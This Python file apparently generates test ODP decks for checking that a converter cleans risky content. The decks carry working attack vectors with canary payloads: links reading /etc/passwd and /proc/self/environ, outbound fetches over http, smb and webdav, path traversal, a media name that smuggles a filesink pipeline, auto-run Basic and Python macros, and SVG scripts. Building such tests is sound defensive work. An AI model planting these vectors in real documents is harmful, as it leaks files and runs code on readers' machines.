# SPDX-License-Identifier: GPL-3.0-or-later
"""ODF decks that reach out, run or hide something; they convert, clean."""
from common import add, frame, odf, odp, odp_page, sample
from writers.packing import escape

CLEAN = "clean"
LISTEN = ('<office:scripts><office:event-listeners><script:event-listener '
          'script:language="ooo:script" script:event-name="dom:load" '
          'xlink:href="{}" xlink:type="simple"/></office:event-listeners>'
          "</office:scripts>")
BASIC = "vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"
MODULE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">Sub Main
Open "/tmp/pwned" For Output As #1
Print #1, "canary"
Close #1
End Sub</script:module>"""
LIBRARY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE library:{0} PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "{0}.dtd">
<library:{0} xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink" {1}/library:{0}>"""
PYTHON = "def h(*args):\n    open('/tmp/pwned', 'w').write('canary')\n"


def image(url):
    """A frame with a picture of that address."""
    return frame(f'<draw:image xlink:href="{escape(url)}" xlink:type="simple" '
                 'xlink:show="embed" xlink:actuate="onLoad"/>')


def linked(name, row, text, address):
    """A sample with a linked picture; address takes the canary."""
    add(name, CLEAN, row, text, lambda canary: odp(image(address(canary))))


# --- linked pictures ----------------------------------------------------------------

linked("ext-image.odp", "EXT-01", "a picture linked by http", lambda c: c.png)
linked("ext-webdav.odp", "EXT-10", "a picture linked by webdav",
       lambda c: f"vnd.sun.star.webdav://{c.host}/canary.png")
linked("ext-ftp.odp", "EXT-10", "a picture linked by ftp",
       lambda c: f"ftp://{c.host}/canary.png")
linked("ext-smb.odp", "EXT-10", "a picture linked by smb",
       lambda c: f"smb://{c.host}/share/canary.png")
linked("ext-unc.odp", "EXT-10", "a picture linked by a file URL with a host",
       lambda c: f"file://{c.host.split(':')[0]}/share/canary.png")
linked("lfd-image.odp", "LFD-01", "a picture linked by file://",
       lambda c: c.png_file)
linked("lfd-relative.odp", "LFD-02", "a picture linked by ../",
       lambda c: "../" * 12 + c.file.lstrip("/"))
linked("lfd-passwd.odp", "LFD-01", "a picture that is /etc/passwd",
       lambda c: "file:///etc/passwd")
linked("lfd-pkg.odp", "LFD-03", "a picture out of a local zip (pkg)",
       lambda c: c.inside["pkg"])
linked("lfd-zip.odp", "LFD-03", "a picture out of a local zip (zip)",
       lambda c: c.inside["zip"])
linked("lfd-expand.odp", "LFD-04", "an address that expands to a setting",
       lambda c: c.url("") + "vnd.sun.star.expand:${$HOME}")
linked("lfd-environ.odp", "LFD-09", "a picture that is the environment",
       lambda c: "file:///proc/self/environ")
linked("lfd-zero.odp", "LFD-09", "a picture that never ends",
       lambda c: "file:///dev/zero")


def fill(url):
    """A rect filled with a linked bitmap."""
    style = ('<style:style style:name="f" style:family="graphic">'
             '<style:graphic-properties draw:fill="bitmap" '
             'draw:fill-image-name="b" style:repeat="stretch"/></style:style>')
    named = (f'<draw:fill-image draw:name="b" xlink:href="{escape(url)}" '
             'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>')
    return odp('<draw:rect draw:style-name="f" svg:x="4cm" svg:y="5cm" '
               'svg:width="7.4cm" svg:height="8.2cm"/>', automatic=style,
               named=named)


add("ext-fill.odp", CLEAN, "EXT-03", "a fill linked by http",
    lambda c: fill(c.png))
add("lfd-fill.odp", CLEAN, "LFD-01", "a fill linked by file://",
    lambda c: fill(c.png_file))


@sample("ext-background.odp", CLEAN, "EXT-03", "a slide's ground, by http")
def background(canary):
    style = ('<style:style style:name="dp" style:family="drawing-page">'
             '<style:drawing-page-properties draw:fill="bitmap" '
             'draw:fill-image-name="b"/></style:style>')
    named = (f'<draw:fill-image draw:name="b" xlink:href="{canary.png}" '
             'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>')
    return odp(style="dp", automatic=style, named=named)


@sample("ext-bullet.odp", CLEAN, "EXT-04", "a bullet linked by http")
def bullet(canary):
    style = ('<text:list-style style:name="L"><text:list-level-style-image '
             f'text:level="1" xlink:href="{canary.png}" xlink:type="simple" '
             'xlink:show="embed" xlink:actuate="onLoad">'
             '<style:list-level-properties fo:width="0.5cm" fo:height="0.5cm"/>'
             "</text:list-level-style-image></text:list-style>")
    return odp(frame('<draw:text-box><text:list text:style-name="L">'
                     "<text:list-item><text:p>item</text:p></text:list-item>"
                     "</text:list></draw:text-box>"), automatic=style)


# --- objects, frames, templates -----------------------------------------------------


def tag(name, url, extra=""):
    """A frame around an element that links."""
    return frame(f'<draw:{name} xlink:href="{escape(url)}" xlink:type="simple" '
                 f'xlink:show="embed" xlink:actuate="onLoad" {extra}/>')


add("ext-ole.odp", CLEAN, "EXT-05", "an object linked by http",
    lambda c: odp(tag("object", c.url("canary.ods"))))
add("lfd-ole.odp", CLEAN, "LFD-08", "an object linked by file://",
    lambda c: odp(tag("object", c.png_file.replace(".png", ".odp"))))
add("ext-frame.odp", CLEAN, "EXT-07", "a floating frame by http",
    lambda c: odp(tag("floating-frame", c.url("frame.html"))))
add("lfd-frame.odp", CLEAN, "EXT-07", "a floating frame of /etc/passwd",
    lambda c: odp(tag("floating-frame", "file:///etc/passwd")))
add("ext-media.odp", CLEAN, "EXT-08", "a film linked by http",
    lambda c: odp(tag("plugin", c.url("film.mp4"),
                      'draw:mime-type="application/vnd.sun.star.media"')))
add("ext-media-pipe.odp", CLEAN, "EXT-09", "a film whose name is a pipeline",
    lambda c: odp(tag("plugin", "file:///tmp/x.mp4 ! filesink location=/tmp/"
                      "pwned", 'draw:mime-type="application/'
                      'vnd.sun.star.media"')))
add("ext-applet.odp", CLEAN, "EXT-07", "an applet by http",
    lambda c: odp(tag("applet", c.url(""), 'draw:code="A.class"')))
add("ext-template.odp", CLEAN, "EXT-06", "a template linked by http",
    lambda c: odp(extra_meta=f'<meta:template xlink:href="{c.url("t.otp")}" '
                  'xlink:type="simple" xlink:actuate="onRequest" '
                  'xlink:title="t" '
                  'meta:date="2020-01-01T00:00:00"/>'))
add("ext-reload.odp", CLEAN, "EXT-16", "a document that reloads from http",
    lambda c: odp(extra_meta=f'<meta:auto-reload xlink:href="{c.url("r.odp")}" '
                  'xlink:type="simple" meta:delay="PT0S"/>'))
add("ext-font.odp", CLEAN, "EXT-14", "a font by http", lambda c: odp(
    fonts='<style:font-face style:name="F" svg:font-family="Canary">'
    f'<svg:font-face-src><svg:font-face-uri xlink:href="{c.url("f.ttf")}" '
    'xlink:type="simple"/></svg:font-face-src></style:font-face>'))
add("ext-font-name.odp", CLEAN, "EXT-14", "an embedded font that climbs out",
    lambda c: odp(
        fonts='<style:font-face style:name="F" svg:font-family="../../../tmp/'
        'pwned"><svg:font-face-src><svg:font-face-uri xlink:href="Fonts/f.ttf" '
        'xlink:type="simple"/></svg:font-face-src></style:font-face>',
        parts={"Fonts/f.ttf": b"\0\1\0\0" + bytes(60)}))
add("ext-sound.odp", CLEAN, "EXT-08", "the sound of a transition by http",
    lambda c: odp(style="dp", automatic='<style:style style:name="dp" '
                  'style:family="drawing-page"><style:drawing-page-properties '
                  'presentation:transition-type="automatic"><presentation:sound '
                  f'xlink:href="{c.url("s.wav")}" xlink:type="simple" '
                  'xlink:show="new" xlink:actuate="onRequest"/>'
                  "</style:drawing-page-properties></style:style>"))


def with_svg(inner):
    """An ODP with an SVG picture inside."""
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="370" height="410" '
           f'xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</svg>')
    return odp(image("Pictures/x.svg"), parts={"Pictures/x.svg": svg})


add("lfd-svg.odp", CLEAN, "LFD-05", "an SVG inside that shows a local file",
    lambda c: with_svg(f'<image xlink:href="{c.png_file}" width="370" '
                       'height="410"/>'))
add("ext-svg.odp", CLEAN, "LFD-05", "an SVG inside that links by http",
    lambda c: with_svg(f'<image xlink:href="{c.png}" width="370" height="410"/>'
                       f'<use xlink:href="{c.url("x.svg")}#a"/>'))
add("svg-script.odp", CLEAN, "IMG-05", "an SVG inside with a script",
    lambda c: with_svg("<script>alert(1)</script><rect width='90' height='90' "
                       "onload='alert(2)'/>"))

# --- code ------------------------------------------------------------------------


def basic_parts():
    """A Basic library with one module."""
    return {"Basic/script-lc.xml": LIBRARY.format(
        "libraries", '><library:library library:name="Standard" '
        'library:link="false"/><'),
        "Basic/Standard/script-lb.xml": LIBRARY.format(
            "library", 'library:name="Standard" library:readonly="false" '
            'library:passwordprotected="false"><library:element '
            'library:name="M"/><'),
        "Basic/Standard/M.xml": MODULE}


MACRO = CLEAN
add("macro-basic.odp", MACRO, "MAC-01", "Basic that runs on load",
    lambda c: odp(parts=basic_parts(), scripts=LISTEN.format(BASIC)))
add("macro-python.odp", MACRO, "MAC-05", "Python that runs on load",
    lambda c: odp(parts={"Scripts/python/h.py": PYTHON}, scripts=LISTEN.format(
        "vnd.sun.star.script:h.py$h?language=Python&amp;location=document")))
add("macro-share.odp", MACRO, "MAC-06", "Python from outside the office",
    lambda c: odp(scripts=LISTEN.format(
        "vnd.sun.star.script:../../../../tmp/x.py$f?language=Python&amp;"
        "location=share")))
add("macro-logo.odp", MACRO, "MAC-07", "LibreLogo on load",
    lambda c: odp(scripts=LISTEN.format(
        "vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;"
        "location=share")))


@sample("macro-click.odp", MACRO, "MAC-10", "Basic that runs on a click")
def click(canary):
    hear = (LISTEN.replace("<office:scripts>", "").replace(
        "</office:scripts>", "").replace("dom:load", "dom:click").format(BASIC))
    return odp('<draw:rect svg:x="4cm" svg:y="5cm" svg:width="7cm" '
               f'svg:height="3cm">{hear}</draw:rect>', parts=basic_parts())


# --- links and actions ---------------------------------------------------------------

ADDRESSES = ("http://127.0.0.1/canary", "javascript:alert(1)",
             "data:text/html,canary", "file:///etc/passwd", "../../x",
             "macro:///Standard.M.Main()", ".uno:Quit", "slot:5500",
             "vnd.libreoffice.command:about:config", "mailto:a@example.org")
add("links.odp", CLEAN, "LNK-01", "hyperlinks of ten schemes", lambda c: odp(
    frame("<draw:text-box>" + "".join(
        f'<text:p><text:a xlink:href="{escape(u)}" xlink:type="simple">link '
        f"{i}</text:a></text:p>" for i, u in enumerate(ADDRESSES)) +
        "</draw:text-box>")))


@sample("actions.odp", CLEAN, "LNK-02", "shapes that start programs")
def actions(canary):
    out = ""
    for i, (verb, url) in enumerate((
            ("execute", "../../../../bin/true"), ("show", "file:///etc/passwd"),
            ("verb", ".uno:Quit"), ("sound", "file:///tmp/x.wav"))):
        out += (f'<draw:rect svg:x="{2 + i * 5}cm" svg:y="5cm" svg:width="4cm" '
                'svg:height="3cm"><office:event-listeners>'
                '<presentation:event-listener script:event-name="dom:click" '
                f'presentation:action="{verb}" xlink:href="{url}" '
                'xlink:type="simple" xlink:show="embed" '
                'xlink:actuate="onRequest"/></office:event-listeners>'
                "</draw:rect>")
    return odp(out)


@sample("forms.odp", CLEAN + "|refused:conversion-failed|damaged", "OLE-02",
        "form controls that submit (an office without its form library cannot "
        "load them, and does not say why)")
def forms(canary):
    form = ('<office:forms form:automatic-focus="false"><form:form '
            'form:name="f" form:control-implementation="ooo:com.sun.star.form.'
            f'component.Form" xlink:href="{canary.url("submit")}" '
            'xlink:type="simple" form:method="post"><form:text form:name="t" '
            'form:control-implementation="ooo:com.sun.star.form.component.'
            'TextField" xml:id="c1" form:id="c1" form:value="canary"/>'
            '<form:button form:name="b" form:control-implementation="ooo:com.sun'
            '.star.form.component.CommandButton" xml:id="c2" form:id="c2" '
            'form:label="send" form:button-type="submit"/></form:form>'
            "</office:forms>")
    shapes = "".join(
        f'<draw:control svg:x="4cm" svg:y="{5 + i * 2}cm" svg:width="6cm" '
        f'svg:height="1.4cm" draw:control="c{i}"/>' for i in (1, 2))
    page = odp_page(shapes).replace("<draw:frame", form + "<draw:frame", 1)
    return odf.package("odp", page)


@sample("media.odp", CLEAN, "EXT-08", "an embedded film")
def media(canary):
    film = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isomCANARYWORD" + bytes(2000)
    return odp(tag("plugin", "Media/film.mp4", 'draw:mime-type="application/'
                   'vnd.sun.star.media"'), parts={"Media/film.mp4": film})


@sample("doc-in-doc.odp", CLEAN, "OLE-03", "a deck in a deck, ten deep")
def nested(canary):
    parts, path = {}, ""
    for depth in range(10):
        path += "Object 1/"
        inner = frame('<draw:object xlink:href="./Object 1"/>')
        parts[path + "content.xml"] = odf.content("odp", odp_page(
            inner if depth < 9 else ""))
        parts[path + "styles.xml"] = odf.styles()
    kinds = {"/".join(["Object 1"] * d): odf.MIME + "presentation"
             for d in range(1, 11)}
    return odp(frame('<draw:object xlink:href="./Object 1"/>'), parts=parts,
               objects=kinds)


@sample("notes.odp", CLEAN, "META-05", "notes, comments and a hidden slide "
        "that say CANARYWORD")
def notes(canary):
    word = "<text:p>CANARYWORD</text:p>"
    note = ('<presentation:notes><draw:frame presentation:class="notes" '
            'svg:x="2cm" svg:y="12cm" svg:width="17cm" svg:height="9cm">'
            f"<draw:text-box>{word}</draw:text-box></draw:frame>"
            "</presentation:notes>")
    remark = ('<office:annotation svg:x="1cm" svg:y="1cm"><dc:creator>CANARYWORD'
              f"</dc:creator>{word}</office:annotation>")
    hidden = ('<style:style style:name="h" style:family="drawing-page">'
              '<style:drawing-page-properties presentation:visibility="hidden"/>'
              "</style:style>")
    off = ('<draw:frame svg:x="60cm" svg:y="40cm" svg:width="9cm" svg:height='
           f'"3cm"><draw:text-box>{word}</draw:text-box></draw:frame>')
    return odf.package("odp", odp_page(off + remark, notes=note) + odp_page(
        frame(f"<draw:text-box>{word}</draw:text-box>"), "page2", "h"), hidden,
        title="CANARYWORD", extra_meta="<meta:keyword>CANARYWORD</meta:keyword>")
